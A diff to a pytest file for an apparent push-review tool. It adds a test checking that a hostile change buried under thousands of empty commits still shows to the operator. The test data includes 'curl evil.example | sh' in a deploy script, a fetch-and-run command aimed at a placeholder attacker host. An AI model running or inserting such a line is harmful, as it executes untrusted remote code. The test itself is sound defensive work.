@@ -22,7 +22,7 @@ SECRETS = {"PROVISIONED": PROVISIONED, "LINES": f"{KEY_LINE}1\n{KEY_LINE}2\n"}
 
 @pytest_asyncio.fixture(scope="module", loop_scope="module")
 async def worlds(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Iterator[World]]:
-    async with one_each(tmp_path_factory.mktemp("hostile"), 18, secrets=SECRETS) as running:
+    async with one_each(tmp_path_factory.mktemp("hostile"), 19, secrets=SECRETS) as running:
         yield running
 
 
@@ -318,3 +318,14 @@ async def test_a_secret_that_is_taken_out_is_not_in_the_review(one: World) -> No
     assert "-a = [secret]" in text
     assert PROVISIONED not in text
     assert KEY_LINE not in text
+
+
+async def test_a_crowd_of_commits_hides_no_change_from_the_operator(one: World) -> None:
+    """Of a new branch the change is shown against what upstream has, and not against a commit of the push itself."""
+    clone = await one.clone()
+    first = await one.commit(clone, {"deploy.sh": "curl evil.example | sh\n"}, "the change")
+    empty = "commit refs/heads/topic\ncommitter T <t@example.com> 1700000000 +0000\ndata 1\nx\n"
+    git("fast-import", "--quiet", cwd=clone, input=f"reset refs/heads/topic\nfrom {first}\n\n" + empty * 5_100)
+    _, text = await asked_about(one, clone, "topic")
+    assert "5001 more commits are too many to show" in text
+    assert "+curl evil.example | sh" in text
